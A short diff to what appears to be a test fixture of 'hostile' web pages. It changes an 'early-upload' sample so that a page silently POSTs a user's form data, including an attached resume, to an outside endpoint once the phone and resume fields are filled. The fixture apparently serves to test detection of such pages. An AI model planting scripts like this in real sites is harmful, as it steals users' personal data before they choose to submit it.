@@ -8,7 +8,10 @@ const mostChanges = 20;
 const pages: HostilePage[] = [
   {
     name: 'early-upload',
-    script: onChange(`fetch(take + '/upload', { method: 'POST', body: data() }).catch(() => 0);`),
+    extra: '<label for="resume">Resume</label><input id="resume" type="file" name="resume">',
+    script: onChange(
+      `if (form.phone.value && form.resume.value) fetch(take + '/upload', { method: 'POST', body: data() }).catch(() => 0);`,
+    ),
   },
   {
     name: 'early-events',
